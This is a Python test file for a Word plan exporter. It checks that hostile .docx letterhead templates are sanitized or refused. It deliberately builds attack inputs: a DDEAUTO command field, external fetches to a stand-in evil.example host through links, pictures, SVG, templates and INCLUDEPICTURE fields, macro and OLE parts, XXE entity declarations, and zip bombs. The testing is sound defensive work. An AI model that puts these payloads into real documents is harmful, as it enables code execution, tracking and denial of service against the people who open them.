"""Letterheads that would run, fetch, track or protect, that swell, or that are not what they seem."""

import tracemalloc
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from docx.document import Document as Made
from tests.files.making import claiming
from tests.ooxml import validation_errors
from tests.word.exporting import exported, order
from tests.word.ooxml.letterheads import (
    HEADER,
    MAIN,
    MICROSOFT,
    NAME,
    SETTINGS,
    STYLES,
    Letterhead,
    outside,
    parts,
    picture,
)
from tests.word.plans import plan

from planeditor.language import Catalogue, Language
from planeditor.word.ooxml.markup import NAMESPACE, w
from planeditor.word.ooxml.template import UnusableTemplate, opened

CORE = "application/vnd.openxmlformats-package.core-properties+xml"
OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"
EVIL = "https://evil.example/x"
LINKED = (
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="7" name="x"/><a:graphic>'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
    '<pic:cNvPr id="7" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {blip}/>'
    "<a:stretch/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
    "</w:r></w:p>"
)


def _field(instruction: str) -> str:
    half = len(instruction) // 2
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction[:half]}</w:instrText></w:r>"
        f"<w:r><w:instrText>{instruction[half:]}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>rodoma</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _put(made: Letterhead, xml: str) -> Letterhead:
    """The letterhead with more in its header."""
    return made.put(HEADER, xml, before="</w:hdr>")


# Each is given a letterhead and makes it hostile.


def _link_in_the_header(made: Letterhead) -> None:
    _put(made, '<w:p><w:hyperlink r:id="x1"><w:r><w:t>rodoma</w:t></w:r></w:hyperlink></w:p>')
    made.link(HEADER, "x1", "hyperlink", EVIL, outside=True)


def _linked_picture(made: Letterhead) -> None:
    _put(made, LINKED.format(blip='r:link="x2"'))
    made.link(HEADER, "x2", "image", EVIL, outside=True)


def _old_linked_picture(made: Letterhead) -> None:
    shape = f'<v:shape><v:imagedata r:href="x3" src="{EVIL}" o:href="{EVIL}"/></v:shape>'
    _put(made, f"<w:p><w:r><w:pict>{shape}</w:pict></w:r></w:p>")
    made.link(HEADER, "x3", "image", EVIL, outside=True)


def _picture_that_fetches(made: Letterhead) -> None:
    _put(made, LINKED.format(blip='r:embed="x4"')).link(HEADER, "x4", "image", "media/x.svg")
    made.add("word/media/x.svg", f'<svg><image href="{EVIL}"/></svg>'.encode(), "image/svg+xml")


def _attached_template(made: Letterhead) -> None:
    made.put(SETTINGS, '<w:attachedTemplate r:id="x5"/>', before="<w:compat")
    made.link(SETTINGS, "x5", "attachedTemplate", EVIL, outside=True)


def _documents_within(made: Letterhead) -> None:
    made.put(MAIN, '<w:altChunk r:id="x6"/><w:subDoc r:id="x7"/>', before="<w:sectPr")
    made.link(MAIN, "x6", "aFChunk", "evil.html").add("word/evil.html", EVIL.encode(), "text/html")
    made.link(MAIN, "x7", "subDocument", EVIL, outside=True)


def _embedded_object(made: Letterhead) -> None:
    ole = '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s" DrawAspect="Icon" ObjectID="x" r:id="x8"/>'
    _put(made, f'<w:p><w:r><w:object><v:shape id="s"/>{ole}</w:object></w:r></w:p>')
    made.link(HEADER, "x8", "oleObject", "embeddings/evil.bin")
    made.add("word/embeddings/evil.bin", EVIL.encode(), OBJECT)


def _active_control(made: Letterhead) -> None:
    _put(made, '<w:p><w:r><w:object><w:control r:id="x9" w:name="evil"/></w:object></w:r></w:p>')
    made.link(HEADER, "x9", "control", "activeX/evil.xml")
    made.add("word/activeX/evil.xml", b"<evil/>", "application/vnd.ms-office.activeX+xml")


def _macros(made: Letterhead) -> None:
    made.link(MAIN, "x10", "vbaProject", "vbaProject.bin", base=MICROSOFT)
    made.add("word/vbaProject.bin", EVIL.encode(), "application/vnd.ms-office.vbaProject")
    _with_type(made, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")


def _scripts_of_the_package(made: Letterhead) -> None:
    made.link("", "x11", "ui/extensibility", "customUI/evil.xml", base=MICROSOFT)
    made.add("customUI/evil.xml", b"<evil/>", "application/xml")


def _with_type(made: Letterhead, content_type: str) -> Letterhead:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return made.replace("[Content_Types].xml", main, content_type)


def _simple_field(made: Letterhead) -> None:
    field = f'<w:fldSimple w:instr=" INCLUDEPICTURE {EVIL} "><w:r><w:t>rodoma</w:t></w:r></w:fldSimple>'
    _put(made, f"<w:p>{field}</w:p>")


def _asking_field(made: Letterhead) -> None:
    _put(made, _field(f" DDEAUTO cmd {EVIL} "))


def _endless_field(made: Letterhead) -> None:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    _put(made, f"<w:p>{begin}<w:r><w:instrText>LINK {EVIL}</w:instrText></w:r></w:p>")


def _field_of_two_choices(made: Letterhead) -> None:
    # Whoever does not know what is required sees only the second.
    said = (
        '<mc:AlternateContent><mc:Choice Requires="o"><w:r><w:instrText>PAGE </w:instrText></w:r></mc:Choice>'
        f"<mc:Fallback><w:r><w:instrText>INCLUDEPICTURE {EVIL}</w:instrText></w:r></mc:Fallback>"
        "</mc:AlternateContent>"
    )
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    _put(made, f"<w:p>{begin}{said}{end}</w:p>")


def _field_with_a_deletion(made: Letterhead) -> None:
    # It asks outside again when the deletion is refused.
    gone = f"<w:r><w:delInstrText>INCLUDEPICTURE {EVIL} </w:delInstrText></w:r>"
    change = f'<w:del w:id="5" w:author="x">{gone}</w:del>'
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    _put(made, f"<w:p>{begin}{change}<w:r><w:instrText>PAGE</w:instrText></w:r>{end}</w:p>")


def _border_that_fetches(made: Letterhead) -> None:
    border = f'<v:stroke><o:left src="{EVIL}"/></v:stroke>'
    _put(made, f"<w:p><w:r><w:pict><v:shape>{border}</v:shape></w:pict></w:r></w:p>")


def _picture_that_tells_what_a_part_refers_to(made: Letterhead) -> None:
    # Put among ours as it is, it would stand in for what is written there.
    made.link(SETTINGS, "x12", "attachedTemplate", EVIL, outside=True)
    _put(made, LINKED.format(blip='r:embed="x13"')).link(HEADER, "x13", "image", "_rels/settings.xml.rels")
    made.add("word/_rels/settings.xml.rels", made.parts["word/_rels/settings.xml.rels"], "image/png")


def _picture_that_tells_what_parts_are(made: Letterhead) -> None:
    _put(made, LINKED.format(blip='r:embed="x14"')).link(HEADER, "x14", "image", "/[Content_Types].xml")
    made.add("[Content_Types].xml", made.parts["[Content_Types].xml"], "image/png")
    made.replace("[Content_Types].xml", "</Types>", '<Default Extension="evil" ContentType="a/b"/></Types>')


FETCHING: dict[str, Callable[[Letterhead], None]] = {
    change.__name__: change
    for change in (
        _link_in_the_header, _linked_picture, _old_linked_picture, _picture_that_fetches, _attached_template,
        _documents_within, _embedded_object, _active_control, _macros, _scripts_of_the_package,
        _simple_field, _asking_field, _endless_field, _field_of_two_choices, _field_with_a_deletion,
        _border_that_fetches, _picture_that_tells_what_a_part_refers_to, _picture_that_tells_what_parts_are,
    )
}  # fmt: skip


def _hostile(*names: str) -> bytes:
    made = Letterhead()
    for name in names:
        FETCHING[name](made)
    return made.bytes


def _written(template: bytes, form: str = "rodikliu-lentele") -> bytes:
    return exported(plan(), replace(order(form), template=template, template_name="blankas.docx")).content


def _document(content: bytes) -> Made:
    return Document(BytesIO(content))


def _told(refused: UnusableTemplate) -> str:
    return Catalogue.of(Language.LT).say(refused.said)


@pytest.mark.parametrize("name", FETCHING)
def test_what_runs_or_fetches_does_not_pass(name: str) -> None:
    content = _written(_hostile(name))
    assert outside(content) == []
    assert all(b"evil" not in part for part in parts(content).values())
    assert all("evil" not in part for part in parts(content))
    assert NAME in [
        paragraph.text for paragraph in _document(content).sections[0].first_page_header.paragraphs
    ]


def test_a_letterhead_of_all_that_makes_a_valid_document(tmp_path: Path) -> None:
    content = _written(_hostile(*FETCHING))
    assert outside(content) == [] and all(b"evil" not in part for part in parts(content).values())
    path = tmp_path / "planas.docx"
    path.write_bytes(content)
    assert validation_errors(path) == []


@pytest.mark.parametrize("name", ["_link_in_the_header", "_simple_field", "_asking_field"])
def test_the_text_of_what_does_not_pass_stays(name: str) -> None:
    header = _document(_written(_hostile(name))).sections[0].first_page_header
    assert [paragraph.text for paragraph in header.paragraphs] == [NAME, "rodoma"]
    assert header._element.find(f".//{w('hyperlink')}") is None


def test_fields_that_tell_of_the_document_stay() -> None:
    made = _put(Letterhead(), _field(" PAGE ") + _field(" IF 1 = 1 a b "))
    header = _document(_written(made.bytes)).sections[0].first_page_header._element
    assert [field.text for field in header.iter(w("instrText"))] == [" PA", "GE ", " IF 1 =", " 1 a b "]
    assert len(list(header.iter(w("fldChar")))) == 6


def test_a_link_to_a_place_in_the_document_stays_a_link() -> None:
    link = '<w:p><w:hyperlink r:id="x1"><w:r><w:t>rodoma</w:t></w:r></w:hyperlink></w:p>'
    made = Letterhead().put(MAIN, link, before="<w:sectPr").link(MAIN, "x1", "hyperlink", "#vieta")
    body = _document(_written(made.bytes)).element.body
    assert next(body.iter(w("hyperlink"))).get(w("anchor")) == "vieta"


def test_a_picture_that_is_there_stays_though_it_is_linked_too() -> None:
    made = _put(Letterhead(), LINKED.format(blip='r:embed="x1" r:link="x2"'))
    made.link(HEADER, "x1", "image", "media/x.png").link(HEADER, "x2", "image", EVIL, outside=True)
    content = _written(made.add("word/media/x.png", picture(), "image/png").bytes)
    assert outside(content) == []
    assert list(parts(content).values()).count(picture()) == 2  # with the logo


def test_the_logo_stays_a_picture_of_the_header() -> None:
    content = _written(Letterhead().bytes)
    header = _document(content).sections[0].first_page_header
    (image,) = (rel.target_part for rel in header.part.rels.values() if rel.reltype.endswith("/image"))
    assert image.blob == picture() and outside(content) == []
    assert header._element.find(f".//{w('drawing')}") is not None


SETTINGS_LEFT_BEHIND = {
    "trackRevisions": "<w:trackRevisions/>",
    "documentProtection": '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>',
    "writeProtection": '<w:writeProtection w:recommended="1"/>',
    "mailMerge": "<w:mailMerge><w:mainDocumentType w:val='formLetters'/></w:mailMerge>",
    "updateFields": "<w:updateFields/>",
    "docVars": '<w:docVars><w:docVar w:name="a" w:val="b"/></w:docVars>',
}


@pytest.mark.parametrize("name", SETTINGS_LEFT_BEHIND)
def test_settings_that_protect_track_or_ask_do_not_pass(name: str) -> None:
    made = Letterhead().put(SETTINGS, SETTINGS_LEFT_BEHIND[name], before="<w:compat")
    settings = _document(_written(made.bytes)).settings.element
    assert settings.find(w(name)) is None
    assert settings.find(w("compat")) is not None and settings.find(w("defaultTabStop")) is not None


def _refusal(content: bytes) -> str:
    with pytest.raises(UnusableTemplate) as refused:
        opened(content, "blankas.docx")
    told = _told(refused.value)
    assert told.startswith(("Šablonas „blankas.docx“ ", "Šablone „blankas.docx“ ")) and told.endswith(".")
    return told


@pytest.mark.parametrize("part", [MAIN, HEADER, STYLES, "word/_rels/document.xml.rels"])
def test_what_declares_entities_is_refused(part: str) -> None:
    made = Letterhead()
    text = made.parts[part].decode().split("?>", 1)[-1]
    made.parts[part] = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{EVIL}">]>{text}'.encode()
    assert "DOCTYPE" in _refusal(made.bytes)
    made.parts[part] = b"\xff\xfe" + f"<!DOCTYPE x []>{text}".encode("utf-16-le")
    assert "DOCTYPE" in _refusal(made.bytes)


def test_kinds_of_documents_are_told_by_name() -> None:
    strict = Letterhead()
    for part in (MAIN, HEADER, STYLES):
        strict.replace(part, NAMESPACE, "http://purl.oclc.org/ooxml/wordprocessingml/main")
    assert "Strict Open XML" in _refusal(strict.bytes)
    assert "slaptažod" in _refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000))
    workbook = _with_type(Letterhead(), "application/vnd.ms-excel").replace(MAIN, "w:document", "w:book")
    assert "nėra „Word“ dokumentas" in _refusal(workbook.bytes)


@pytest.mark.parametrize("kind", ["template", "document"])
def test_templates_of_word_are_taken_as_documents(kind: str) -> None:
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    made = _with_type(Letterhead(), f"{word}.{kind}.main+xml")
    types = parts(_written(made.bytes))["[Content_Types].xml"].decode()
    assert f"{word}.document.main+xml" in types and ".template." not in types


def test_wrong_properties_are_refused() -> None:
    core = "docProps/core.xml"
    two = Letterhead().link(
        "", "x1", "metadata/core-properties", "docProps/more.xml",
        base="http://schemas.openxmlformats.org/package/2006/relationships",
    )  # fmt: skip
    two.add(
        "docProps/more.xml", two.parts[core], "application/vnd.openxmlformats-package.core-properties+xml"
    )
    _refusal(two.bytes)
    _refusal(Letterhead().replace("[Content_Types].xml", "package.core-properties+xml", "wrong+xml").bytes)
    other = Letterhead()
    other.parts[core] = b"<a/>"
    _refusal(other.bytes)


# What swells


def _bomb(content: bytes, size: int | None = None) -> bytes:
    made = Letterhead()
    made.parts[MAIN] = content
    return made.bytes if size is None else claiming(made.bytes, MAIN, size)


SWELLING: dict[str, Callable[[], bytes]] = {
    "a gigabyte": lambda: _bomb(b"\0" * 1000, 2**30),
    "zeros that claim to be few": lambda: _bomb(b"\0" * 60_000_000, 1000),
    "paragraphs": lambda: _bomb(b"<w:p/>" * 1_000_001),
    "attributes": lambda: _bomb(b'<a b=""/>' * 500_001),
    "paragraphs of another alphabet": lambda: _bomb(b"\xff\xfe" + "<p/>".encode("utf-16-le") * 1_000_001),
    "parts": lambda: _with_parts(5_001),
    "more than is read": lambda: Letterhead().bytes + bytes(64 * 2**20),
}


def _with_parts(number: int) -> bytes:
    made = Letterhead()
    made.parts |= {f"word/{n}.xml": b"" for n in range(number)}
    return made.bytes


@pytest.mark.parametrize("name", SWELLING)
def test_what_swells_is_refused_before_it_does(name: str) -> None:
    content = SWELLING[name]()
    tracemalloc.start()
    try:
        _refusal(content)
        assert tracemalloc.get_traced_memory()[1] < 100_000_000
    finally:
        tracemalloc.stop()


def test_deep_elements_and_chains_of_parts_end_in_a_document_or_a_sentence() -> None:
    deep = Letterhead().replace(MAIN, "<w:sectPr", "<w:p>" * 5000 + "</w:p>" * 5000 + "<w:sectPr")
    _refusal(deep.bytes)
    made = Letterhead()
    for n in range(2000):
        made.link(f"word/chain{n}.xml", "rId1", "header", f"chain{n + 1}.xml")
        made.parts[f"word/chain{n}.xml"] = f'<w:hdr xmlns:w="{NAMESPACE}"/>'.encode()
    made.link(MAIN, "chain", "header", "chain0.xml")
    assert "word/chain0.xml" in parts(_written(made.bytes))
    assert "word/chain1.xml" not in parts(_written(made.bytes))
